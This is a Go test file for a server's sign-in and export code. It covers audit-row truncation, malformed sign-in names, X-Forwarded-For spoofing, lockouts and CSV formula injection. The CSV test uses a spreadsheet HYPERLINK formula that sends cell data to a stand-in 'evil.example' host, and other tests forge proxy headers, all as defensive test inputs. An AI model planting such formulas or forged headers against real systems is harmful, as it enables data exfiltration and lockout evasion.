package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/fleetscore/fleetscore"
	"github.com/fleetscore/fleetscore/auth"
	"github.com/fleetscore/fleetscore/fleettest"
	"github.com/fleetscore/fleetscore/postgres"
	"github.com/fleetscore/fleetscore/postgres/pgtest"
)

// postForm posts a sign-in form, with X-Forwarded-For if xff is set.
func postSignIn(t *testing.T, srvURL, name, password, xff string) int {
	t.Helper()
	req, _ := http.NewRequest("POST", srvURL+"/signin", strings.NewReader(url.Values{"name": {name}, "password": {password}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if xff != "" {
		req.Header.Set("X-Forwarded-For", xff)
	}
	resp, err := noRedirect.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// TestAuditFieldsBounded: a 500 KB provider error and a 1 MB typed name
// each leave an audit row of a few hundred bytes, marked as cut, in the
// store and in the log.
func TestAuditFieldsBounded(t *testing.T) {
	idp := newTestIdP(t)
	f := fleettest.New(t, fleettest.Options{Tenants: 1})
	var logs strings.Builder
	svc := &auth.Service{Store: f.Store, Log: newTestLogger(&logs)}
	var h http.Handler
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { h.ServeHTTP(w, r) }))
	defer srv.Close()
	o, err := auth.NewOIDC(context.Background(), auth.OIDCConfig{Issuer: idp.srv.URL, ClientID: idp.clientID, ClientSecret: idp.secret,
		RedirectURL: srv.URL + "/signin/callback", HTTPClient: idp.srv.Client()})
	if err != nil {
		t.Fatal(err)
	}
	s, err := New(Options{Source: f.Store, Auth: svc, OIDC: o})
	if err != nil {
		t.Fatal(err)
	}
	h = s.Handler()

	// "é" is two bytes: a cut in the middle of one would leave bad UTF-8.
	huge := "x" + strings.Repeat("é", 40_000) + strings.Repeat("y", 420_000) // 500 KB, and the URL under net/http's 1 MB of headers
	resp, err := http.Get(srv.URL + "/signin/callback?error=" + url.QueryEscape(huge))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("callback with an error: %d", resp.StatusCode)
	}
	// Straight to the service too: another engineer caps form bodies, the
	// bound must hold on its own.
	name := strings.Repeat("n", 1<<20)
	if _, _, err := svc.SignIn(context.Background(), name, "password", "192.0.2.7"); err == nil {
		t.Fatal("a sign-in as nobody succeeded")
	}
	// Over the HTTP form: a 1 MB body is refused before it is read (413);
	// a name as long as the form allows is bounded in the row.
	if got := postSignIn(t, srv.URL, strings.Repeat("m", 1<<20), "password", ""); got != http.StatusRequestEntityTooLarge {
		t.Errorf("POST /signin with a 1 MB name: %d; want 413", got)
	}
	if got := postSignIn(t, srv.URL, strings.Repeat("m", 6<<10), "password", ""); got >= 500 {
		t.Errorf("POST /signin with a 6 KB name: %d", got)
	}
	events, err := f.Store.AuditLog(context.Background(), 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(events) < 3 {
		t.Fatalf("audit log: %d rows; want the callback's and two sign-ins'", len(events))
	}
	for _, e := range events {
		size := len(e.Actor) + len(e.Action) + len(e.Detail) + len(e.IP)
		if !utf8.ValidString(e.Actor + e.Detail) {
			t.Errorf("audit row %s was cut inside a character", e.Action)
		}
		if size > 320 {
			t.Errorf("audit row %s of %d bytes; want at most ~300", e.Action, size)
		}
		if e.Action == "signin.failed" && !strings.Contains(e.Actor+e.Detail, "…[cut ") {
			t.Errorf("audit row %s does not say it was cut: %.80q %.80q", e.Action, e.Actor, e.Detail)
		}
	}
	for _, line := range strings.Split(logs.String(), "\n") {
		if len(line) > 1200 {
			t.Errorf("a log line of %d bytes: %.120s", len(line), line)
		}
	}
}

// signInBadName: a name with a NUL or bytes that are not UTF-8 is a 400
// with the form, counts toward the name's and the address's lockout, and
// leaves the store (PostgreSQL's text refuses both) unharmed.
func signInBadName(t *testing.T, store auth.Store) {
	f := fleettest.New(t, fleettest.Options{Tenants: 1})
	svc := &auth.Service{Store: store}
	s, err := New(Options{Source: f.Store, Auth: svc})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()
	if err := store.PutUser(context.Background(), auth.User{Name: "ann", Role: auth.RoleAdmin, PasswordHash: auth.HashPassword("correct horse battery staple")}); err != nil {
		t.Fatal(err)
	}
	// Each counts toward the lockout: after MaxUserFailures of one
	// (bounded) name, that name is locked out.
	names := []string{"bob\xff", "\xc3", "a\x00\xfe" + strings.Repeat("z", 400)}
	for range auth.MaxUserFailures {
		names = append(names, "ann\x00")
	}
	for _, name := range names {
		if got := postSignIn(t, srv.URL, name, "correct horse battery staple", ""); got != http.StatusBadRequest {
			t.Errorf("sign-in as %q: %d; want 400", name, got)
		}
	}
	if got := postSignIn(t, srv.URL, "ann\x00", "correct horse battery staple", ""); got != http.StatusTooManyRequests {
		t.Errorf("sign-in as \"ann\\x00\" after %d failures: %d; want 429", auth.MaxUserFailures, got)
	}
	n, err := store.Failures(context.Background(), "ip:127.0.0.1", time.Now().Add(-auth.FailureWindow))
	if err != nil || n != len(names) {
		t.Errorf("failures of the address: %d %v; want %d", n, err, len(names))
	}
	events, err := store.AuditLog(context.Background(), 10)
	if err != nil || len(events) != 9 || events[0].Action != "signin.locked" || events[1].Action != "signin.failed" || events[1].Actor != "ann\uFFFD" {
		t.Errorf("audit log: %+v %v", events, err)
	}
	// The right name still signs in.
	if got := postSignIn(t, srv.URL, "ann", "correct horse battery staple", ""); got != http.StatusSeeOther {
		t.Errorf("ann's sign-in after the bad names: %d", got)
	}
}

func TestSignInBadNameSQLite(t *testing.T) {
	signInBadName(t, fleettest.New(t, fleettest.Options{Tenants: 1}).Store)
}

func TestSignInBadNamePostgres(t *testing.T) {
	store, err := postgres.Open(context.Background(), pgtest.NewDatabase(t))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	signInBadName(t, store)
}

// TestForwardedFor: X-Forwarded-For counts only from a trusted proxy, and
// then its right-most address that is not one of the proxies.
func TestForwardedFor(t *testing.T) {
	trusted := []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8"), netip.MustParsePrefix("::1/128")}
	for _, c := range []struct {
		peer string
		xff  []string
		want string
	}{
		{"192.0.2.1", []string{"198.51.100.1"}, "192.0.2.1"},                          // untrusted peer: ignored
		{"10.0.0.1", nil, "10.0.0.1"},                                                 // a proxy with no header
		{"10.0.0.1", []string{"198.51.100.1"}, "198.51.100.1"},                        // one proxy
		{"10.0.0.1", []string{"203.0.113.9, 198.51.100.1, 10.2.2.2"}, "198.51.100.1"}, // a forged left part is skipped
		{"10.0.0.1", []string{"203.0.113.9", "198.51.100.1"}, "198.51.100.1"},         // two header lines
		{"::1", []string{" 2001:db8::7 "}, "2001:db8::7"},
		{"10.0.0.1", []string{"[2001:db8::8]:4711"}, "2001:db8::8"},
		{"10.0.0.1", []string{"198.51.100.1:80"}, "198.51.100.1"},
		{"10.0.0.1", []string{"198.51.100.1, not-an-address"}, "10.0.0.1"}, // garbage: the last proxy
		{"10.0.0.1", []string{"10.3.3.3, 10.4.4.4"}, "10.3.3.3"},           // only proxies: the left-most
		{"10.0.0.1", []string{"::ffff:198.51.100.3"}, "198.51.100.3"},
	} {
		got := forwardedFor(netip.MustParseAddr(c.peer), c.xff, trusted)
		if got.String() != c.want {
			t.Errorf("peer %s, X-Forwarded-For %q: %s; want %s", c.peer, c.xff, got, c.want)
		}
	}
}

// TestLockoutBehindProxy: behind a trusted proxy, 20 failures from one
// client's address lock out neither another client nor that client's
// correct password; the per-name lockout still refuses a correct password.
// From a peer that is not a trusted proxy, X-Forwarded-For is ignored.
func TestLockoutBehindProxy(t *testing.T) {
	f := fleettest.New(t, fleettest.Options{Tenants: 1})
	const pw = "correct horse battery staple"
	if err := f.Store.PutUser(context.Background(), auth.User{Name: "ann", Role: auth.RoleAdmin, PasswordHash: auth.HashPassword(pw)}); err != nil {
		t.Fatal(err)
	}
	serve := func(trusted []netip.Prefix) string {
		s, err := New(Options{Source: f.Store, Auth: &auth.Service{Store: f.Store}, TrustedProxies: trusted})
		if err != nil {
			t.Fatal(err)
		}
		srv := httptest.NewServer(s.Handler())
		t.Cleanup(srv.Close)
		return srv.URL
	}
	lastIP := func() string {
		ev, err := f.Store.AuditLog(context.Background(), 1)
		if err != nil || len(ev) != 1 {
			t.Fatalf("audit log: %v %v", ev, err)
		}
		return ev[0].IP
	}
	const a, b, c = "203.0.113.1", "198.51.100.2", "192.0.2.3"

	proxied := serve([]netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")})
	for i := range auth.MaxIPFailures {
		if got := postSignIn(t, proxied, "nobody-"+string(rune('a'+i)), "wrong password", a); got != http.StatusUnauthorized {
			t.Fatalf("failure %d from A: %d", i, got)
		}
	}
	if ip := lastIP(); ip != a {
		t.Errorf("the audit log has %s; want the client's address %s", ip, a)
	}
	if got := postSignIn(t, proxied, "nobody", "wrong password", a); got != http.StatusTooManyRequests {
		t.Errorf("a wrong password from locked-out A: %d; want 429", got)
	}
	if got := postSignIn(t, proxied, "nobody", "wrong password", b); got != http.StatusUnauthorized {
		t.Errorf("a wrong password from B: %d; want 401 (B is not locked out)", got)
	}
	if got := postSignIn(t, proxied, "ann", pw, b); got != http.StatusSeeOther {
		t.Errorf("ann from B: %d; want 303", got)
	}
	if got := postSignIn(t, proxied, "ann", pw, a); got != http.StatusSeeOther {
		t.Errorf("ann's correct password from locked-out A: %d; want 303", got)
	}
	// A client cannot pick its address: what it writes left of its own is
	// not the proxy's word.
	postSignIn(t, proxied, "nobody", "wrong password", b+", "+c)
	if ip := lastIP(); ip != c {
		t.Errorf("X-Forwarded-For %q: the audit log has %s; want %s", b+", "+c, ip, c)
	}
	// The per-name limit still protects the account, from any address.
	for i := range auth.MaxUserFailures {
		if got := postSignIn(t, proxied, "ann", "wrong password", b); got != http.StatusUnauthorized {
			t.Fatalf("ann's failure %d: %d", i, got)
		}
	}
	if got := postSignIn(t, proxied, "ann", pw, "192.0.2.99"); got != http.StatusTooManyRequests {
		t.Errorf("ann's correct password after %d failures of the name: %d; want 429", auth.MaxUserFailures, got)
	}

	direct := serve(nil)
	postSignIn(t, direct, "nobody", "wrong password", "192.0.2.50")
	if ip := lastIP(); ip != "127.0.0.1" {
		t.Errorf("from an untrusted peer the audit log has %s; want the peer 127.0.0.1", ip)
	}
}

// csvFormula reports a cell a spreadsheet would run as a formula.
func csvFormula(cell string) bool {
	t := strings.TrimLeft(cell, " \n")
	return t != "" && strings.ContainsRune("=+-@\t\r", rune(t[0])) && !csvNumber.MatchString(cell)
}

// TestCSVFormulaInjection: a tenant named =HYPERLINK(...), a control
// titled @SUM(1) and a sign-in name -2+3 come out of every CSV route with
// a leading quote; numbers, negative ones too, stay as they are.
func TestCSVFormulaInjection(t *testing.T) {
	x := newAuthFixture(t)
	ctx := context.Background()
	const evilName, evilTitle, evilActor = `=HYPERLINK("http://evil.example/?"&A1,"x")`, "@SUM(1)", "-2+3"
	var tenants []fleetscore.Tenant
	for _, j := range x.f.Jobs {
		tenants = append(tenants, j.Tenant)
	}
	tenants[0].Name = evilName
	if err := x.f.Store.SyncTenants(ctx, tenants); err != nil {
		t.Fatal(err)
	}
	profiles, err := x.f.Store.Profiles(ctx, x.a)
	if err != nil || len(profiles) == 0 {
		t.Fatalf("profiles: %d %v", len(profiles), err)
	}
	profiles[0].Title = evilTitle
	if err := x.f.Store.SaveBatch(ctx, fleetscore.Batch{Tenant: tenants[0], Profiles: profiles}); err != nil {
		t.Fatal(err)
	}
	_, _, _ = x.svc.SignIn(ctx, evilActor, "wrong password", "192.0.2.1")

	seen := map[string]bool{}
	for _, r := range x.s.routeTable() {
		method, path := x.concrete(r.pattern)
		if method != http.MethodGet || !strings.HasPrefix(path, "/api/v1/") {
			continue
		}
		resp, body := x.do(t, method, path+"?format=csv", "admin")
		if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
			continue
		}
		recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", path, err)
			continue
		}
		for _, rec := range recs {
			for _, cell := range rec {
				seen[cell] = true
				if csvFormula(cell) {
					t.Errorf("%s: the cell %q is a formula", path, cell)
				}
				if strings.HasPrefix(cell, "'") && csvNumber.MatchString(cell[1:]) {
					t.Errorf("%s: the number %q is quoted", path, cell)
				}
			}
		}
	}
	for _, want := range []string{"'" + evilName, "'" + evilTitle, "'" + evilActor} {
		if !seen[want] {
			t.Errorf("no CSV has the neutralised cell %q", want)
		}
	}
	var buf bytes.Buffer
	if err := writeCSV(&buf, table{header: []string{"a", "b", "c", "d"}, rows: [][]string{{"-4.5", "-2+3", "+1e-3", "\t=1"}}}); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), "a,b,c,d\r\n-4.5,'-2+3,+1e-3,'\t=1\r\n"; got != want {
		t.Errorf("writeCSV: %q; want %q", got, want)
	}
}
